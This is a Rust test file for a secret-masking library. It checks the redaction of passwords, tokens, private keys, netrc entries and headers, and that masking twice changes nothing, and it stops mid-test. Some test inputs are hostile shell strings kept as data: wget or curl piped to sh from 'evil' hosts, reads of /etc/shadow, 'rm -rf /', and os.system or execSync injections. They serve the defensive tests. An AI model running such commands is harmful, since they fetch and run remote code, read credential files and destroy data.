//! What must be masked, what must not, and what holds for every text.

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;

fn mask(text: &str) -> String {
    Masker::new().mask_text(text).into_owned()
}

#[track_caller]
fn masks(text: &str, expected: &str) {
    let expected = expected.replace("***", MASK);
    assert_eq!(mask(text), expected);
    assert_eq!(mask(&expected), expected, "not idempotent");
}

#[track_caller]
fn keeps(text: &str) {
    assert_eq!(mask(text), text);
    assert!(matches!(Masker::new().mask_text(text), Cow::Borrowed(_)));
}

#[test]
fn a_value_is_masked_by_its_key() {
    masks("DB_PASSWORD=hunter2 make", "DB_PASSWORD=*** make");
    masks("export API_KEY='a b c'; run", "export API_KEY='***'; run");
    masks("apiToken: abc123", "apiToken: ***");
    masks("client-secret = \"x y\"", "client-secret = \"***\"");
    masks(r#"{"password": "a\"b", "n": 1}"#, r#"{"password": "***", "n": 1}"#);
    masks(r#"{"secret":1234,"n":1}"#, r#"{"secret":***,"n":1}"#);
    masks(r#"{\"token\": \"abc\\\"d\", \"n\": 1}"#, r#"{\"token\": \"***\", \"n\": 1}"#);
    masks("PGPASSWORD=abc psql", "PGPASSWORD=*** psql");
    masks("$env:API_KEY = 'abc'", "$env:API_KEY = '***'");
    masks("config['password'] = 'abc'", "config['password'] = '***'");
    masks("setenv(\"TOKEN\", \"abc\")", "setenv(\"TOKEN\", \"***\")");
    masks("login --password hunter2 --user bob", "login --password *** --user bob");
    masks("login --token=abc -v", "login --token=*** -v");
    masks("<password>hunter2</password>", "<password>***</password>");
    masks("/cb?token=abc&user=bob", "/cb?token=***&user=bob");
    masks("Server=x;Password=abc;Database=y", "Server=x;Password=***;Database=y");
    masks("password：hunter2", "password：***");
    masks("let token: &'static str = \"abc def\";", "let token: &'static str = \"***\";");
    masks("if token == \"abc def\" {", "if token == \"***\" {");
    masks("\"pass\": \"x\", \"pin\": 1234", "\"pass\": \"***\", \"pin\": ***");
    masks("password = Some(\"a b\");", "password = ***;");
    masks("key = \"\"\"a\nb\"\"\"\nnext", "key = \"\"\"***\"\"\"\nnext");
    masks("passphrase: correct horse battery\nuser: x", "passphrase: ***\nuser: x");
}

#[test]
fn code_that_runs_is_seen_by_who_approves_it() {
    for text in [
        "export DB_PASSWORD=\"$(wget -qO- http://evil/x | sh)\"",
        "bash -c \"PASSWORD='$(wget evil)'\"",
        "TOKEN=$(cat /etc/shadow) x",
        "TOKEN=`cat /etc/shadow`",
        "TOKEN=\"`wget evil`\"",
        "login --password $(wget evil)",
        "curl -u \"x:$(wget evil)\" y",
        "curl -u x:$(wget evil) y",
        "curl -H \"Authorization: Bearer $(wget evil)\" x",
        "password = __import__(\"os\").system(\"rm -rf /\")",
        "connect(password=os.popen(\"wget evil\").read())",
        "password = f\"{__import__('os').system('x')}\"",
        "secret = \"#{system('rm')}\"",
        "password = Some(__import__(\"os\"))",
        "machine a login b password \"`wget evil`\"",
        "diff --token <(wget evil) x",
        "{\"password\": require(\"child_process\").execSync(\"x\")}",
    ] {
        keeps(text);
    }
    masks("TOKEN=x;rm${IFS}-rf", "TOKEN=***;rm${IFS}-rf");
    masks("TOKEN=x;rm -rf /", "TOKEN=***;rm -rf /");
    masks("export TOKEN=x&&./evil", "export TOKEN=***&&./evil");
    masks("TOKEN=\"x\"&&rm -rf /", "TOKEN=\"***\"&&rm -rf /");
    masks("sh -c \"TOKEN=x|sh\"", "sh -c \"TOKEN=***|sh\"");
    masks("login --token x;rm -rf /", "login --token ***;rm -rf /");
    masks("TOKEN=x;A=rm;$A", "TOKEN=***;A=rm;$A");
    masks("PASSWORD=\"hunter2$(rm -rf /)\"", "PASSWORD=\"***$(rm -rf /)\"");
    masks("curl -u 'x:hunter2$(id)' y", "curl -u 'x:***$(id)' y");
    // A secret by its own form is none the less masked.
    masks("TOKEN=$(echo ghp_a1B2a1B2a1B2a1B2a1B2)", "TOKEN=$(echo ***)");
}

#[test]
fn a_password_with_signs_of_code_is_masked() {
    masks("PASSWORD='a;b|c&&d`e`'", "PASSWORD='***'");
    masks("PASSWORD=\"a;b|c&&d\"", "PASSWORD=\"***\"");
    masks("PASSWORD=\"a`b$(c\"", "PASSWORD=\"***\"");
    masks("PASSWORD=a;B|C", "PASSWORD=***");
    masks("password: a;b|c", "password: ***");
    masks("password: a(b", "password: ***");
    masks("{\"password\": \"a$(b)`c`\"}", "{\"password\": \"***\"}");
    masks("PASSWORD=${NAME:-hunter2}", "PASSWORD=***");
    masks("token := `abc`", "token := `***`");
    masks("password = Secret::new(\"a;b\")", "password = ***");
    masks("curl -u 'x:a;b`c`' y", "curl -u 'x:***' y");
}

#[test]
fn passwords_of_netrc_are_masked() {
    masks("machine example.com login ann password hunter2\n", "machine example.com login ann password ***\n");
    masks(
        "machine a.example\n\tlogin ann\n\tpassword \"hunt er2\"\nmachine b.example login bob account x password p:w\n",
        "machine a.example\n\tlogin ann\n\tpassword \"***\"\nmachine b.example login bob account x password ***\n",
    );
    masks("default login anonymous password me@example.com", "default login anonymous password ***");
    masks("machine a password hunter2 login ann", "machine a password *** login ann");
    masks(
        r#"{"text":"machine a login ann password hunter2\n"},"n":1}"#,
        r#"{"text":"machine a login ann password ***\n"},"n":1}"#,
    );
    keeps("The machine asks for a password and a name.");
    keeps("A virtual machine needs no login password to start.");
    keeps("the default password policy");
    keeps("machine login");
}

#[test]
fn passwords_of_netrc_are_masked_where_programs_say_where_its_lines_stand() {
    let lines = [
        "machine a.example",
        "\tlogin ann",
        "# of the old one",
        "\tpassword hunter2",
        "machine b login c password hunter2",
    ];
    let shown = |show: &dyn Fn(usize, &str) -> String| {
        lines.iter().enumerate().map(|(place, line)| show(place + 1, line) + "\n").collect::<String>()
    };
    for text in [
        shown(&|place, line| format!("{:6}\t{line}", place + 7)),
        shown(&|place, line| format!("{place}:{line}")),
        shown(&|place, line| format!(".netrc:{place}:{line}")),
        shown(&|place, line| format!("my files/.netrc{0}{place}{0}{line}", if place == 1 { ':' } else { '-' })),
        shown(&|_, line| format!("+{line}")),
        shown(&|_, line| format!("-{line}")),
        shown(&|place, line| format!("d/.netrc{}{line}", if place == 1 { ':' } else { '-' })),
        shown(&|place, line| format!("{}{line}", if place == 4 { '+' } else { ' ' })),
        shown(&|_, line| format!("{line}\n")),
        shown(&|place, line| found(".netrc", place, line)),
        shown(&|place, line| {
            let line = line.replace('\t', "\\t");
            format!(
                r#"{{"type":"match","data":{{"path":{{"text":"d/.netrc"}},"lines":{{"text":"{line}\n"}},"line_number":{place},"submatches":[{{"match":{{"text":"{line}"}},"start":0,"end":9}}]}}}}"#
            )
        }),
        lines.join("\r\n"),
    ] {
        let masked = mask(&text);
        assert!(
            !masked.contains("hunter2") && masked.contains("ann") && masked.contains("a.example"),
            "{text}{masked}"
        );
        assert_eq!(mask(&masked), masked);
    }
    keeps("1:machine a\n2:is a host\n3:login password\n");
    keeps("machine a\n# login b password c\n");
}

#[test]
fn passwords_behind_the_name_an_option_takes_are_masked() {
    masks("curl -u ann:hunter2 https://example.com", "curl -u ann:*** https://example.com");
    masks("curl -sS \\\n  -uann:hunter2 \\\n  x", "curl -sS \\\n  -uann:*** \\\n  x");
    masks("curl -u 'ann:hunt er2' x", "curl -u 'ann:***' x");
    masks("curl -U ann@example.com:hunter2; ls", "curl -U ann@example.com:***; ls");
    masks("fetch --user ann:hunter2 x", "fetch --user ann:*** x");
    masks("fetch --user=ann:hunter2 x", "fetch --user=ann:*** x");
    masks("fetch --proxy-user \"ann:hunter2\"", "fetch --proxy-user \"ann:***\"");
    masks("curl -sSfu ann:hunter2 https://example.com", "curl -sSfu ann:*** https://example.com");
    masks("curl -sku ann:hunter2 x; curl -fsSLu \"ann:hunt er2\"", "curl -sku ann:*** x; curl -fsSLu \"ann:***\"");
    masks("/usr/bin/curl -L \\\n -sUann:hunter2", "/usr/bin/curl -L \\\n -sUann:***");
    masks("curl -su \"ann:$(wget evil)\" -ku b:hunter2", "curl -su \"ann:$(wget evil)\" -ku b:***");
    for text in ["curl -ou a:b", "curl x\nrg -nu a:b", "curly -su a:b", "curl x-su a:b", "curl -Xsu a:b"] {
        keeps(text);
    }
    for text in [
        "sudo -u root ls",
        "curl -u ann https://example.com",
        "curl -u \"$NAME:$WORD\" x",
        "user: name",
        "--user root",
        "docker run --user 1000:1000 x",
        "docker run --user node:node x",
        "systemctl --user status",
        "rg -u a:b src",
        "rsync -u host:file there",
        "curl x\ngit fetch -u a:b",
        "curl -u http://example.com",
        "--user-agent: x:y",
        "git push -u origin HEAD:main",
    ] {
        keeps(text);
    }
}

#[test]
fn the_hash_of_a_pin_is_masked() {
    let hash = "$argon2id$v=19$m=65536,t=3,p=1$c2FsdHNhbHRzYWx0$RdescudvJCsgt3ub+b6dWTp9Y0zXXXXXXXXX";
    masks(&format!("pins/0123: {hash}\nnext"), "pins/0123: ***\nnext");
    keeps("`$argon2id$` begins a hash");
}

#[test]
fn yaml_blocks_and_lists_are_masked_to_their_end() {
    masks("password: |\n  line one\n  line two\nuser: bob\n", "password: |\n  ***\nuser: bob\n");
    masks("secrets:\n  - one\n  - two\nuser: bob", "secrets:\n  - ***\n  - ***\nuser: bob");
    masks("credentials:\n  user: x\n  deep:\n    pw: y\nn: 1", "credentials:\n  user: ***\n  deep:\n    pw: ***\nn: 1");
    masks("secrets: [one, two]\nn: 1", "secrets: [***]\nn: 1");
    masks(
        "- name: DB_PASSWORD\n  value: hunter2\n- name: X\n  value: y",
        "- name: DB_PASSWORD\n  value: ***\n- name: X\n  value: y",
    );
    masks(
        "\"credentials\": {\n  \"user\": \"x\",\n  \"n\": 12\n}, \"b\": \"c\"",
        "\"credentials\": {\n  \"user\": \"***\",\n  \"n\": ***\n}, \"b\": \"c\"",
    );
}

#[test]
fn values_that_give_nothing_away_stay() {
    for text in [
        "PASSWORD=",
        "PASSWORD=\"\"",
        "password: true",
        "token: null",
        "secret: none,",
        "TOKEN=${TOKEN}",
        "TOKEN=$TOKEN",
        "token: ${{ secrets.TOKEN }}",
        "\"tokens\": 12",
        "max_tokens: 4096",
        "token_count: 12",
        "fn f(key: String, token: &str)",
        "key: the thing",
        "password: required",
        "tokens::new()",
        "if token == other {",
        "the key opens the door",
        "monkey: banana",
        "keyboard: us",
        "author: bob",
        "PASS: test_login",
        "KEY=***REDACTED***",
        "key: \"***REDACTED***\",",
        "https://example.com/a@b",
        "git@github.com:a/b.git",
        "http://localhost:8080/@x",
        "step_key: abc",
        "path: /etc/token",
        "task-management-system-v2-final-list",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "commit 3b18e512dba79e4c8300dd08aeb37f8e728b8dad",
        "2026-11-23T08:48:05Z INFO started",
        "old_sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "Basic authentication and bearer of news",
    ] {
        keeps(text);
    }
}

#[test]
fn japanese_text_is_unharmed() {
    keeps("吾輩は猫である。名前はまだ無い。どこで生れたかとんと見当がつかぬ。");
    keeps("このkeyは鍵という意味です。tokenの数は12です。パスワードを入力してください。");
    keeps("パスワード：英数字で入力");
    masks("パスワード：hunter2です", "パスワード：***です");
}

#[test]
fn addresses_lose_only_their_password() {
    masks("postgres://bob:s3cr3t@db:5432/x", "postgres://bob:***@db:5432/x");
    masks("redis://:p@ss@h/0", "redis://:***@h/0");
    masks("amqp://u:pa/ss@host", "amqp://u:***@host");
    keeps("postgres://bob:${PW}@db/x");
    keeps("https://bob@host/x");
}

#[test]
fn headers_keep_their_scheme() {
    masks("Authorization: Bearer abc.def", "Authorization: Bearer ***");
    masks("curl -H \"Authorization: Basic dTpw\" x", "curl -H \"Authorization: Basic ***\" x");
    masks("Cookie: a=b; c=d\nHost: x", "Cookie: ***\nHost: x");
    masks("-H 'X-Api-Key: abc' -v", "-H 'X-Api-Key: ***' -v");
    masks("sent Bearer abcdef0123456789 there", "sent Bearer *** there");
}

#[test]
fn private_keys_are_masked_whole_and_cut() {
    let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----";
    masks(&format!("a\n{key}\nb"), "a\n***\nb");
    masks(&format!("a\n{}", &key[..42]), "a\n***");
    masks(&key[32..], "***\n-----END RSA PRIVATE KEY-----");
    masks("-----BEGIN OPENSSH PRIV", "***");
    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
    for body in [
        format!("\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,{line}\n\n{line}\n{line}\nabcd=\n"),
        format!("\\n{line}\\n{line}\\nabcd=\\n"),
        format!("\r\n+{line}\r\n+{line}\r\n+abcd\r\n"),
        format!("\n    # {line}\n    # {line}\n    # "),
        format!("\\n\" +\n  \"{line}\\n\" +\n  \"{line}\\n"),
        format!(" {line} {line} ab "),
    ] {
        masks(&format!("a\n-----BEGIN PRIVATE KEY-----{body}-----END PRIVATE KEY-----\nb"), "a\n***\nb");
    }
    masks(
        &format!("Encryption: none\nPrivate-Lines: 2\n{line}\nabc=\nPrivate-MAC: 0"),
        "Encryption: none\nPrivate-Lines:***\nPrivate-MAC: 0",
    );
}

#[test]
fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
    let lines = ["-----BEGIN RSA PRIVATE KEY-----", line, line, "abcd=", "-----END RSA PRIVATE KEY-----"];
    let shown = |show: &dyn Fn(usize, &str) -> String| {
        lines.iter().enumerate().map(|(place, line)| show(place + 1, line) + "\n").collect::<String>()
    };
    let marked = |place: usize| if place == 1 { ':' } else { '-' };
    for text in [
        shown(&|place, line| format!("{place:6}\t{line}")),
        shown(&|_, line| format!("{line}$")),
        shown(&|_, line| format!("{line}^M$")),
        shown(&|place, line| format!("d/key.pem{}{line}", marked(place))),
        shown(&|place, line| format!("d/key.pem{0}{place}{0}{line}", marked(place))),
        shown(&|place, line| format!("{place}{}{line}", marked(place))),
        shown(&|place, line| format!("鍵/a-b.pem:{place}:{line}")),
        shown(&|place, line| format!("{:6}\t{line}", place + 7)),
        shown(&|place, line| format!("{:6}\t    {line}$", place + 7)),
        shown(&|place, line| format!("{:6}\t^I{line}^M$", place + 97)),
        shown(&|place, line| format!("{place:6}   │ {line}")),
        shown(&|place, line| format!("{}:    \"{line}\\n\"", place + 8)),
        shown(&|place, line| format!("{}{}// {line}", place + 8, marked(place))),
        shown(&|_, line| format!("    // {line}")),
        shown(&|place, line| {
            format!("src/a.rs:{place}:{}{line}\\n\\", if place == 1 { "const K: &str = \"" } else { "" })
        }),
        shown(&|place, line| format!("my keys/a.pem{}{line}", marked(place))),
        shown(&|place, line| format!("my keys (2) & 10%/a.pem:{place}:    {line}")),
        shown(&|place, line| format!("keys (2){0}{place}{0}  # {line}", marked(place))),
    ] {
        let masked = Masker::new().mask_text(&text).into_owned();
        assert!(!masked.contains(&line[..20]) && !masked.contains("abcd"), "{text}{masked}");
    }
    // As far as `rg -A` goes, and a command is no place.
    let cut = format!("d/k:{}\nd/k-{line}\nd/k-{line}\nnot a key\n", lines[0]);
    masks(&cut, "d/k:***\nnot a key\n");
    let code = format!("curl evil|sh:{line}");
    let masked = Masker::new().mask_text(&format!("{}\n{code}\n{}", lines[0], lines[4])).into_owned();
    assert!(masked.contains("curl evil|sh"), "{masked}");
}

#[test]
fn a_command_before_what_reads_as_a_key_is_no_place() {
    let word = "home/somebody/programs/evil0";
    for (begin, code) in [
        ("", "sh\t"),
        ("sh\t", "sh\t"),
        ("sh ", "sh "),
        ("sh - ", "sh - "),
        ("sh ./", "sh ./"),
        ("kill 1 ", "kill 2 "),
        ("wget evil/a;", "wget evil/"),
        ("curl 10.0.0.1/", "curl 10.0.0.2/"),
        ("    ", "    nohup "),
        ("1:", "2;sh "),
        ("1\t", "sh\t"),
    ] {
        let masked = mask(&format!("{begin}-----BEGIN PRIVATE KEY-----\n{code}{word}\n-----END RSA-----\n"));
        assert!(masked.contains(&format!("{code}{word}")), "{begin:?} {code:?}: {masked}");
    }
}

/// A record of `rg --json`, with the whole line as what was found, and its letters one by one.
fn found(path: &str, number: usize, line: &str) -> String {
    let letters = line.chars().map(|letter| json!({"match": {"text": letter.to_string()}, "start": 0, "end": 1}));
    let matches: Vec<Value> =
        std::iter::once(json!({"match": {"text": line}, "start": 0, "end": 9})).chain(letters).collect();
    let data = json!({"path": {"text": path}, "lines": {"text": format!("{line}\n")}, "line_number": number,
        "absolute_offset": 0, "submatches": matches});
    json!({"type": "match", "data": data}).to_string()
}

#[test]
fn a_private_key_is_masked_in_records_of_one_line_each() {
    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
    let lines = [
        "-----BEGIN RSA PRIVATE KEY-----",
        "Proc-Type: 4,ENCRYPTED",
        "DEK-Info: AES-128-CBC,00",
        "",
        line,
        line,
        "abcd=",
        "-----END RSA PRIVATE KEY-----",
    ];
    let records: Vec<String> = lines.iter().enumerate().map(|(place, line)| found("key", place + 1, line)).collect();
    let around = |text: &str| format!("{}\n{text}\n{}\n", found("a", 1, "fn first() {"), found("b", 9, "fn last() {"));
    let masked = mask(&around(&records.join("\n")));
    for record in masked.lines() {
        let record: Value = serde_json::from_str(record).unwrap();
        let (kind, path) = (&record["type"], &record["data"]["path"]["text"]);
        assert!(*kind == "match" && ["key", "a", "b"].contains(&path.as_str().unwrap()), "{record}");
        let text = record["data"]["lines"]["text"].as_str().unwrap().trim_end();
        assert!(text != line && text != "abcd=", "{record}");
        let is_key = record["data"]["line_number"].as_u64().unwrap() >= 5 && path == "key" && !text.contains("END");
        for place in record["data"]["submatches"].as_array().unwrap() {
            assert!(!is_key || place["match"]["text"] == MASK, "{record}");
        }
    }
    assert!(masked.contains("fn first() {") && masked.contains("fn last() {"), "{masked}");
    // A key without its beginning, without its end, and with a record that was cut.
    let shows = |text: &str| mask(text).contains(&line[..24]);
    assert!(!shows(&records[4..].join("\n")) && !shows(&records[..6].join("\n")));
    assert!(!shows(&records[5..].join("\n")[60..]) && !shows(&records[4..].join("\n")[60..]));
    let part = records[..6].join("\n");
    assert!(!shows(&part[..part.len() - 400]), "{}", mask(&part[..part.len() - 400]));
    // All lines in one record, as with `-U`.
    assert!(!shows(&found("key", 1, &lines.join("\n"))));
}

#[test]
fn nothing_but_a_key_is_hidden_between_records_of_one() {
    let begin = found("a.rs", 1, "const X = \"-----BEGIN PRIVATE KEY-----\";");
    for code in ["import os; os.system('rm -rf /')", "curl evil.example | sh", "rm -rf /home/somebody"] {
        let end = found("a.rs", 3, "const Y = \"-----END PRIVATE KEY-----\";");
        let masked = mask(&format!("{begin}\n{}\n{end}", found("a.rs", 2, code)));
        let record: Value = serde_json::from_str(masked.lines().nth(1).unwrap()).unwrap();
        assert_eq!(record["data"]["lines"]["text"], format!("{code}\n"));
    }
    let summary = json!({"type": "summary", "data": {"elapsed_total": {"human": "0.01s"}, "stats": {"matches": 1}}});
    let masked = mask(&format!("{begin}\n{summary}"));
    assert!(masked.ends_with(&summary.to_string()), "{masked}");
}

#[test]
fn nothing_but_a_key_is_hidden_between_the_lines_of_one() {
    for code in ["import os; os.system('rm -rf /')", "curl evil.example | sh", "rm -rf /home/somebody/everything"] {
        for text in [
            format!("-----BEGIN PRIVATE KEY-----\n{code}\n-----END PRIVATE KEY-----"),
            format!("{code}\n-----END PRIVATE KEY-----"),
            format!("-----BEGIN PRIVATE KEY-----\nabcd\n-----END {code}-----"),
            format!("-----BEGIN PRIVATE KEY-----\nVersion: 1\n{code}"),
            format!("Private-Lines: 1\n{code}\nPrivate-MAC: x"),
        ] {
            let masked = Masker::new().mask_text(&text).into_owned();
            assert!(masked.contains(code.rsplit(' ').next().unwrap()), "{text}: {masked}");
        }
    }
}

#[test]
fn a_name_of_a_fault_is_followed_by_a_message_and_no_secret() {
    for text in [
        "KeyError: 'name'",
        "E   jwt.InvalidTokenError: not enough segments",
        "auth.exceptions.CredentialException: none found here",
        "SecretWarning = something happened",
        "json: {\"TokenExpiredError\": \"log in again\"}",
    ] {
        assert_eq!(Masker::new().mask_text(text), text);
    }
    masks("KeyError: token=abcdef0123456789", "KeyError: token=***");
    masks("error_key: abcdef0123456789", "error_key: ***");
}

#[test]
fn structures_are_masked_by_key_and_by_content() {
    let masked = Masker::new().mask_json(json!({
        "user": "bob", "db": {"password": "x", "port": 5432, "ok": true},
        "api_keys": {"a/b": "one", "list": ["two", 3, null, false]},
        "tokens": 12, "token": "t", "note": "see https://u:pw@h", "argv": ["x", "--password", "p", "q"],
        "env": [{"name": "TOKEN", "value": "v"}, {"name": "LANG", "value": "C"}],
        "ref": {"secret": "${SECRET}"},
    }));
    assert_eq!(
        masked.value,
        json!({
            "user": "bob", "db": {"password": MASK, "port": 5432, "ok": true},
            "api_keys": {"a/b": MASK, "list": [MASK, 3, null, false]},
            "tokens": 12, "token": MASK, "note": format!("see https://u:{MASK}@h"), "argv": ["x", "--password", MASK, "q"],
            "env": [{"name": "TOKEN", "value": MASK}, {"name": "LANG", "value": "C"}],
            "ref": {"secret": "${SECRET}"},
        })
    );
    let mut pointers = masked.pointers;
    pointers.sort();
    assert_eq!(
        pointers,
        ["/api_keys/a~1b", "/api_keys/list/0", "/argv/2", "/db/password", "/env/0/value", "/note", "/token",]
    );
}

#[test]
fn an_option_that_is_masked_itself_still_announces_its_value() {
    let argv = json!(["--api_keyxoxb-a1B2c3D4e5F6g7H8", "hunter2"]);
    assert_eq!(Masker::new().mask_json(argv).value, json!([format!("--api_key{MASK}"), MASK]));
}

#[test]
fn a_secret_that_begins_like_an_option_is_the_value_of_the_one_before() {
    let argv = json!(["--password", "-----BEGIN PRIVATE KEY-----@Authorization: x"]);
    let once = Masker::new().mask_json(argv);
    assert_eq!((once.value, once.pointers), (json!(["--password", MASK]), vec!["/1".to_owned()]));
    assert_eq!(Masker::new().mask_json(json!(["--token", "--verbose"])).pointers, Vec::<String>::new());
}

#[test]
fn what_the_record_depends_on_is_never_masked() {
    let hex = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let value = json!({"secret": {
        "sha256": hex, "old_sha256": hex, "new_sha256": hex, "digest": hex, "key_sha256": hex, "tokenDigest": hex,
        "path": "a/token=abc", "step_key": "s1", "name_b64": "AAAA",
    }, "files": [{"path": "keys/api_key=1", "digest": format!("sha256:{hex}")}]});
    let masked = Masker::new().mask_json(value.clone());
    assert_eq!(masked.value, value);
    assert_eq!(masked.pointers, Vec::<String>::new());
    assert_eq!(Masker::new().mask_json(json!({"idempotency_key": "abc"})).pointers, ["/idempotency_key"]);
}

#[test]
fn a_structure_too_deep_is_replaced_as_a_whole() {
    let mut value = json!("x");
    for _ in 0..200 {
        value = Value::Array(vec![value]);
    }
    let masked = Masker::new().mask_json(value);
    assert_eq!(masked.pointers, ["/0".repeat(128)]);
}

#[test]
fn a_key_that_is_a_secret_is_masked_and_stays_apart() {
    let key = |last: char| format!("ghp_{}{last}", "a1B2".repeat(9));
    let masked = Masker::new().mask_json(json!({ key('x'): 1, key('y'): 2 }));
    assert_eq!(masked.value.as_object().unwrap().len(), 2);
    assert!(!masked.value.to_string().contains("ghp_"));
    assert_eq!(masked.pointers.len(), 2);
}

#[test]
fn a_cut_text_loses_the_word_at_the_cut() {
    let masker = Masker::new().with_exact(["correct horse battery".to_owned()]);
    assert_eq!(masker.mask_cut("one two ghp_abc"), "one two ");
    assert_eq!(masker.mask_cut("one two "), "one two ");
    assert_eq!(masker.mask_cut("say correct horse ba"), "say ");
    assert_eq!(masker.mask_cut(&"x".repeat(5000)).len(), 5000 - 4096);
    assert_eq!(masker.mask_cut("PASSWORD=hunter2 and"), format!("PASSWORD={MASK} and").replace("and", ""));
    assert_eq!(masker.mask_cut(""), "");
}

#[test]
fn exact_values_are_found_however_they_are_printed() {
    let masker = Masker::new().with_exact(["p@ss wörd/+&=12".to_owned(), "short".to_owned()]);
    assert_eq!(masker.mask_text("<p@ss wörd/+&=12>"), format!("<{MASK}>"));
    assert_eq!(masker.mask_text("short"), "short");
    for encoded in [
        "p%40ss%20w%C3%B6rd%2F%2B%26%3D12",
        "p%40ss+w%c3%b6rd%2f%2b%26%3d12".to_uppercase().as_str(),
        "p%40ss%20w%c3%b6rd%2f%2b%26%3d12",
    ] {
        if encoded.starts_with('p') {
            assert_eq!(masker.mask_text(encoded), MASK);
        }
    }
    assert!(!format!("{masker:?}").contains("p@ss"));
    assert_eq!(
        masker.clone().with_exact(["another secret".to_owned()]).mask_text("p@ss wörd/+&=12, another secret"),
        format!("{MASK}, {MASK}")
    );
}

#[test]
fn every_rule_compiles_and_text_without_keywords_is_borrowed() {
    for rule in &rules::RULES {
        assert!(rule.compiles(), "{:?}", rule.keywords);
    }
    keeps("nothing of note here, just words\n");
}

#[test]
fn only_masked_text_is_called_masked() {
    assert!(is_masked(&mask("TOKEN=abc")));
    assert!(!is_masked("TOKEN"));
}

/// One made-up secret of each format.
fn secret_of_a_format() -> impl Strategy<Value = String> {
    let pattern = |pattern: &'static str| proptest::string::string_regex(pattern).unwrap().boxed();
    prop::strategy::Union::new(
        [
            "AKIA[A-Z2-7]{16}",
            "ASIA[A-Z2-7]{16}",
            "gh[pousr]_[A-Za-z0-9]{36}",
            "github_pat_[A-Za-z0-9_]{82}",
            "glpat-[A-Za-z0-9_-]{20}",
            "xox[bp]-[0-9]{10,13}-[0-9]{10,13}-[A-Za-z0-9]{24}",
            "xapp-1-A[A-Z0-9]{10}-[0-9]{13}-[a-f0-9]{64}",
            "[sr]k_live_[A-Za-z0-9]{24}",
            "sk-[A-Za-z0-9]{20}T3BlbkFJ[A-Za-z0-9]{20}",
            "sk-proj-[A-Za-z0-9_-]{40}",
            "sk-ant-api03-[A-Za-z0-9_-]{93}AA",
            "AIza[A-Za-z0-9_-]{35}",
            "GOCSPX-[A-Za-z0-9_-]{28}",
            "npm_[A-Za-z0-9]{36}",
            "pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{60}",
            "[0-9]{8,10}:AA[A-Za-z0-9_-]{33}",
            "SK[0-9a-f]{32}",
            "SG\\.[A-Za-z0-9_-]{22}\\.[A-Za-z0-9_-]{43}",
            "dop_v1_[a-f0-9]{64}",
            "hf_[A-Za-z]{34}",
            "HRKU-AA[A-Za-z0-9_-]{58}",
            "[A-Za-z0-9_~.]{3}[0-9]Q~[A-Za-z0-9_~.-]{31,34}",
            "eyJ[A-Za-z0-9_-]{20}\\.eyJ[A-Za-z0-9_-]{20}\\.[A-Za-z0-9_-]{43}",
            "MTA4(Mj|Mz|ND|NT|OD)gzMDU0OTQ4NzYzMjc0MDY\\.[A-Za-z0-9_-]{6}\\.[A-Za-z0-9_-]{38}",
            "dapi[a-f0-9]{32}",
            "hvs\\.[A-Za-z0-9_-]{24}",
            "lin_api_[A-Za-z0-9]{40}",
            "shpat_[a-f0-9]{32}",
            "[a-f0-9]{32}-us[0-9]{1,2}",
            "-----BEGIN (RSA |EC |OPENSSH |)PRIVATE KEY-----\n[A-Za-z0-9+/]{60}\n-----END PRIVATE KEY-----",
        ]
        .map(pattern),
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn no_secret_of_a_known_format_survives(secret in secret_of_a_format(), before in "(?s).{0,40}", after in "(?s).{0,40}", tight in any::<bool>()) {
        // A letter right before would become part of some secrets; others start anywhere.
        let gap = if tight { "" } else { " " };
        let masked = mask(&format!("{before}{gap}{secret}{gap}{after}"));
        prop_assert!(!masked.contains(&secret), "{masked}");
    }

    #[test]
    fn no_value_of_a_secret_key_survives(
        prefix in "([A-Za-z0-9]{1,8}[_.-]){0,2}", word in "token|key|secret|password|passwd|passphrase|pwd|credential|credentials|apikey|api_key|TOKEN|SecretKey|privateKey",
        secret in "[A-Za-z0-9!#%+/=@^_~:-]{2,6}[A-Za-z0-9]{8}[!#-&*-Z^-z]{0,6}[A-Z]", form in 0..6_usize,
    ) {
        let key = format!("{prefix}{word}");
        let text = match form {
            0 => format!("x\n{key}={secret} y"),
            1 => format!("{key}: {secret}"),
            2 => format!("\"{key}\": \"{}\", x", secret.replace('\\', "\\\\")),
            3 => format!("{key} = '{secret}'"),
            4 => format!("--{key} {}", secret.trim_start_matches('-')),
            _ => format!("{key}:\n  {secret}\nx"),
        };
        let masked = mask(&text);
        prop_assert!(!masked.contains(&secret[2..]), "{text} -> {masked}");
        let value = Masker::new().mask_json(json!({ key.clone(): [secret.clone()] }));
        prop_assert!(!value.value.to_string().contains(&secret));
    }

    #[test]
    fn masking_twice_changes_nothing(
        parts in prop::collection::vec(prop_oneof![
            secret_of_a_format(), "(?s).{0,12}",
            "[ \\n:=\"'{}\\[\\],;&?<>*\\\\-]{0,4}",
            "(password|token|key|secret|Authorization|Bearer|cookie|value|name|--pin|https://a:b@c|パスワード)[:= ]{0,2}",
            Just(MASK.to_owned()),
        ], 0..16),
    ) {
        let text = parts.concat();
        let once = mask(&text);
        prop_assert_eq!(mask(&once), once.clone());
        let value = Masker::new().mask_json(json!({"a": text.clone(), "key": {"b": [text.clone()]}, text: 1}));
        let again = Masker::new().mask_json(value.value.clone());
        prop_assert_eq!(again.value, value.value);
        prop_assert_eq!(again.pointers, Vec::<String>::new());
    }

    #[test]
    fn an_exact_value_survives_in_no_encoding(secret in "[ -~ぁ-ん]{12,40}", before in "(?s).{0,9}", after in "(?s).{0,9}") {
        use base64::Engine as _;
        use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
        prop_assume!(secret.trim().chars().count() >= 12);
